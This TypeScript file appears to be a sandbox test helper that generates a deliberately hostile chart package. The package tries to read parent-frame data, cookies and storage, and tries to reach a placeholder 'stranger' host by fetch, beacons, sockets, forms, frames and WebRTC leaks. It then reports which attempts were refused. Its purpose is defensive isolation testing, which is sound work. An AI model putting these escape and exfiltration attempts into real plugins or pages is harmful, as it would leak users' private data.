/** What came of an attempt: `refused`, or what it got. */
export type Attempt = string;

/** Returns the code of a chart package that tries what a package must not do, and draws what came of it. */
export function hostileScript(stranger: string): string {
  return `
    const STRANGER = ${JSON.stringify(stranger)};
    const report = {};
    if (parent !== top) {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] });
      peer.onicecandidate = event => event.candidate && parent.postMessage('candidate', '*');
      peer.createDataChannel('x');
      peer.createOffer().then(offer => peer.setLocalDescription(offer));
    }
    const attempt = async (name, action) => {
      try {
        const got = await Promise.race([action(), new Promise((_, no) => setTimeout(() => no('late'), 1500))]);
        report[name] = got === undefined ? 'done' : String(got);
      } catch {
        report[name] = 'refused';
      }
    };
    const loaded = (tag, attributes) =>
      new Promise((yes, no) => {
        const element = Object.assign(document.createElement(tag), attributes);
        element.onload = () => yes('loaded');
        element.onerror = no;
        document.head.append(element);
      });
    powerset.chart({
      async draw(input, root) {
        await attempt('parent document', () => parent.document.title);
        await attempt('parent location', () => parent.location.href);
        await attempt('parent variables', () => Object.keys(parent.localStorage).join());
        await attempt('frame element', () => { if (!frameElement) throw 0; return frameElement.id; });
        await attempt('cookies', () => document.cookie);
        await attempt('set cookie', () => { document.cookie = 'a=b'; return document.cookie; });
        await attempt('local storage', () => localStorage.length);
        await attempt('databases', () => indexedDB.open('x').readyState);
        await attempt('fetch own server', async () => (await fetch('/api/v1/me/')).status);
        await attempt('fetch own server by address', async () => (await fetch(new URL('/api/v1/me/', document.baseURI), { mode: 'no-cors', credentials: 'include' })).type);
        await attempt('fetch stranger', async () => (await fetch(STRANGER + '/fetch', { mode: 'no-cors' })).type);
        await attempt('beacon', () => { if (!navigator.sendBeacon(STRANGER + '/beacon', 'x')) throw 0; return 'refused'; });
        await attempt('request', () => new Promise((yes, no) => { const r = new XMLHttpRequest(); r.open('GET', STRANGER + '/xhr'); r.onload = () => yes('loaded'); r.onerror = no; r.send(); }));
        await attempt('web socket', () => new Promise((yes, no) => { const s = new WebSocket(STRANGER.replace('http', 'ws')); s.onopen = () => yes('open'); s.onerror = no; }));
        await attempt('event source', () => new Promise((yes, no) => { const s = new EventSource(STRANGER + '/events'); s.onopen = () => yes('open'); s.onerror = no; }));
        await attempt('image', () => loaded('img', { src: STRANGER + '/image' }));
        await attempt('script', () => loaded('script', { src: STRANGER + '/script' }));
        await attempt('style', () => loaded('link', { rel: 'stylesheet', href: STRANGER + '/style' }));
        await attempt('import', () => import(STRANGER + '/module'));
        await attempt('inline script', () => { const s = document.createElement('script'); s.textContent = 'globalThis.ran = true'; document.head.append(s); if (!globalThis.ran) throw 0; return 'ran'; });
        await attempt('eval', () => new Function('return 1')());
        await attempt('worker', () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => yes('runs'); w.onerror = no; }));
        await attempt('nested frame', () => new Promise((yes, no) => { const f = document.createElement('iframe'); f.src = STRANGER + '/frame'; f.onload = () => setTimeout(() => no(0), 300); document.body.append(f); }));
        await attempt('form', () => { const f = document.createElement('form'); f.action = STRANGER + '/form'; document.body.append(f); f.submit(); throw 0; });
        await attempt('window', () => { if (!open(STRANGER + '/window')) throw 0; return 'opened'; });
        await attempt('top', () => { top.location = STRANGER + '/top'; return 'moved'; });
        await attempt('peer in a bare frame', () => { const f = document.createElement('iframe'); document.body.append(f); return new f.contentWindow.RTCPeerConnection() && 'made'; });
        await attempt('peer in a frame of this code', () => new Promise((yes, no) => {
          addEventListener('message', event => event.data === 'candidate' && yes('candidate'));
          const f = document.createElement('iframe');
          f.srcdoc = '<div id="root"></div>' + document.querySelector('script[type=module]').outerHTML;
          document.body.append(f);
        }));
        await attempt('peer in a hidden frame', () => new Promise((yes, no) => {
          addEventListener('message', event => event.data === 'candidate' && yes('candidate'));
          const shadow = document.createElement('div').attachShadow({ mode: 'closed' });
          shadow.innerHTML = '<iframe></iframe>';
          shadow.firstChild.srcdoc = '<div id="root"></div>' + document.querySelector('script[type=module]').outerHTML;
          document.body.append(shadow.host);
        }));
        await attempt('preconnect as text', () => { root.innerHTML = '<link rel="preconnect" href="' + STRANGER + '">'; if (!root.querySelector('link')) throw 0; return 'made'; });
        await attempt('frame as text', () => new Promise((yes, no) => {
          addEventListener('message', event => event.data === 'candidate' && yes('candidate'));
          root.innerHTML = '<iframe></iframe>';
          root.firstElementChild.srcdoc = document.querySelector('script[type=module]').outerHTML;
        }));
        await attempt('preconnect', () => loaded('link', { rel: 'preconnect', href: STRANGER }));
        await attempt('prefetch', () => loaded('link', { rel: 'prefetch', href: STRANGER + '/prefetch' }));
        await attempt('preload', () => loaded('link', { rel: 'preload', as: 'image', href: STRANGER + '/preload' }));
        await attempt('peer', () => new Promise((yes, no) => {
          const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] });
          peer.onicecandidate = event => event.candidate && yes('candidate');
          peer.createDataChannel('x');
          peer.createOffer().then(offer => peer.setLocalDescription(offer)).catch(no);
        }));
        parent.postMessage({ type: 'powerset:connect' }, '*');
        const shown = document.createElement('pre');
        shown.id = 'report';
        shown.textContent = JSON.stringify(report);
        root.replaceChildren(shown);
      },
    });
  `;
}
